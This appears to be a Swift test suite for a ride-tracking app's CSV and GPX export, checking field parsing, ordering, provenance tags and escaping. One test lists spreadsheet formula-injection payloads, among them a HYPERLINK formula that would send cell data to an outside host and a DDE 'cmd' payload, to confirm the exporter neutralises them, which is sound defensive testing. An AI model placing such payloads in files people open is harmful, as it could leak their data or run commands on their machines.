import Positioning
@testable import Report
import TestSupport
import Testing

@Suite struct `Rides as CSV` {
    private let trace = TestRide.trace()

    /// The records of a text by RFC 4180, section 2.
    private func records(_ text: String) -> [[String]] {
        var records: [[String]] = []
        var fields: [String] = []
        var field = String.UnicodeScalarView()
        var isQuoted = false
        var scalars = text.unicodeScalars[...]
        while let scalar = scalars.popFirst() {
            switch scalar {
            case "\"" where isQuoted && scalars.first == "\"":
                field.append("\"")
                scalars.removeFirst()
            case "\"": isQuoted.toggle()
            case "," where !isQuoted:
                fields.append(String(field))
                field = .init()
            case "\r" where !isQuoted && scalars.first == "\n":
                scalars.removeFirst()
                records.append(fields + [String(field)])
                (fields, field) = ([], .init())
            default: field.append(scalar)
            }
        }
        return records
    }

    @Test func `have a header, and as many fields in each row`() {
        let records = records(exported(.csv, [trace, TestRide.trace(name: "a,\"b\"")]))
        #expect(records[0].prefix(5) == ["time", "kind", "lat", "lon", "accuracy_m"] && records[0].last == "ride")
        #expect(records.allSatisfy { $0.count == records[0].count })
        #expect(records.count == 1 + 2 * (trace.fixes.count + trace.belief.count + trace.events.count + 1))
        #expect(records.last?.last == "a,\"b\"")
    }

    @Test func `are in the order of time, and mark what is inferred`() throws {
        let records = records(exported(.csv, [trace]))
        let times = records.dropFirst().map { $0[0] }
        #expect(times == times.sorted())
        let inferred = try #require(records[0].firstIndex(of: "inferred"))
        #expect(records.filter { $0[1] == "belief" && $0[inferred] == "true" }.count == 31)
        let refused = try #require(records[0].firstIndex(of: "refused"))
        #expect(records.filter { $0[refused] == "jump" }.count == 1)
    }

    @Test func `tell how a position was made`() throws {
        let trace = TestRide.trace(origin: .estimated)
        let records = records(exported(.csv, [trace]))
        let origin = try #require(records[0].firstIndex(of: "origin"))
        #expect(records.filter { $0[origin] == "estimated" }.map { $0[1] } == ["fix"])
        #expect(exported(.gpx, [trace]).contains("<alight:origin>estimated</alight:origin>"))
    }

    /// The texts that a spreadsheet would take for a formula, and numbers, which it may take for one.
    @Test func `have no formulas in their texts`() throws {
        for text in ["=HYPERLINK(\"http://x/\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
            #expect(CSVFormat.shown(text) == "'" + text)
        }
        for text in ["-6.25", "+1", "Blok M", "", "é=", "'=1"] { #expect(CSVFormat.shown(text) == text) }
        let records = records(exported(.csv, [TestRide.trace(name: "=cmd.nmea")]))
        #expect(records.dropFirst().allSatisfy { $0.last == "'=cmd.nmea" })
        let latitude = try #require(records[0].firstIndex(of: "lat"))
        #expect(records.dropFirst().allSatisfy { $0[latitude].isEmpty || Double($0[latitude]) != nil })
    }

    @Test func `keep names with quotation marks, commas and line breaks`() throws {
        let records = records(exported(.csv, [trace]))
        let name = try #require(records[0].firstIndex(of: "stop_name"))
        #expect(records.contains { $0[name] == TestRide.hostileName })
        #expect(CSVFormat.line(["a", "b\"c", "d\ne"]) == "a,\"b\"\"c\",\"d\ne\"\r\n")
    }
}
